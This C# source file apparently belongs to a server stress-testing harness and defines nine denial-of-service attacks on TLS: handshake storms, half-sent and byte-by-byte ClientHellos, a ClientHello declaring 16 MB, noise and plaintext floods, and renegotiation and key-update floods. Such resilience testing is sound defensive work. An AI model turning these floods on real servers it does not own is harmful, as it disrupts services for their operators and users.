using System.Net.Security;
using System.Net.Sockets;

namespace Tipi.Compare.Siege.Tls;

/// <summary>Every attack on TLS below HTTP.</summary>
internal static class TlsAttacks
{
    private const int RecordBytes = 16 * 1024;
    private const int RecordHeadBytes = 5;

    public static IReadOnlyList<Attack> All { get; } =
    [
        Of("tls-storm", "full handshakes, one after another", 16, 4, StormAsync),
        Of("tls-half", "a ClientHello, then nothing", 1000, 7, who => who.OnceAsync(
            async socket => await socket.SendAsync(FirstFlight.Bytes, SocketFlags.None, who.End))),
        Of("tls-silent", "connections without a byte", 1000, 7, who => who.OnceAsync(_ => Task.CompletedTask)),
        Of("tls-slow", "a ClientHello byte by byte, ten a second", 1000, 7, who => who.OnceAsync(async socket =>
        {
            foreach (var one in FirstFlight.Bytes)
            {
                await socket.SendAsync(new[] { one }, SocketFlags.None, who.End);
                await Task.Delay(100, who.End);
            }
        })),
        Of("tls-endless", "a ClientHello without end", 20, 2, Flood(EndlessHello())),
        Of("tls-noise", "noise", 20, 2, Flood(Noise())),
        Of("tls-plain", "clear text, one request a connection", 20, 2, Flood(
            "GET / HTTP/1.1\r\nHost: a\r\n\r\n"u8.ToArray(), goesOn: false)),
        Of("tls-renegotiate", "renegotiations asked for (TLS 1.2), 50 a second", 4, 4,
            who => OpenSslClient.KeepAskingAsync(who, "-tls1_2", 'R')),
        Of("tls-key-update", "new keys asked for (TLS 1.3), 50 a second", 4, 4,
            who => OpenSslClient.KeepAskingAsync(who, "-tls1_3", 'K')),
    ];

    private static Attack Of(string name, string title, int connections, int seconds, Func<Attacker, Task> act) =>
        new(name, title, connections, seconds, act)
        {
            Application = "siege-tls",
            AttacksSecondEndpoint = true,
            ProbesSecondEndpoint = true,
            Neighbour = Neighbour.Http1OverTls,
        };

    private static async Task StormAsync(Attacker who)
    {
        while (!who.End.IsCancellationRequested)
        {
            await who.MeetAsync(async socket =>
            {
                await using var below = new NetworkStream(socket, ownsSocket: false);
                await using var stream = await TlsClient.ShakeAsync(below, TlsClient.Http1, who.End);
                // Shaken hands only count once the server has read the last of it.
                await stream.WriteAsync("GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"u8.ToArray(), who.End);
                return await stream.ReadAsync(new byte[512], who.End) > 0 ? "shaken" : "closed";
            });
        }
    }

    // Comes back after it was refused, ten times a second.
    private static Func<Attacker, Task> Flood(byte[] piece, bool goesOn = true) => async who =>
    {
        while (!who.End.IsCancellationRequested)
        {
            await who.OnceAsync(async socket =>
            {
                do
                {
                    await socket.SendAsync(piece, SocketFlags.None, who.End);
                }
                while (goesOn);
            });
            await Task.Delay(100, CancellationToken.None);
        }
    };

    // Records of a handshake (RFC 8446 §5.1) whose one message declares 16 MB (§4); what follows goes on the same.
    private static byte[] EndlessHello()
    {
        var record = new byte[RecordHeadBytes + RecordBytes];
        byte[] head = [22, 3, 1, RecordBytes >> 8, RecordBytes & 255, 1, 255, 255, 255, 3, 3];
        head.CopyTo(record, 0);
        return record;
    }

    private static byte[] Noise()
    {
        var noise = new byte[4096];
        new Random(1).NextBytes(noise);
        // Nothing that a record or a method of HTTP would begin with.
        noise[0] = 0xff;
        return noise;
    }
}
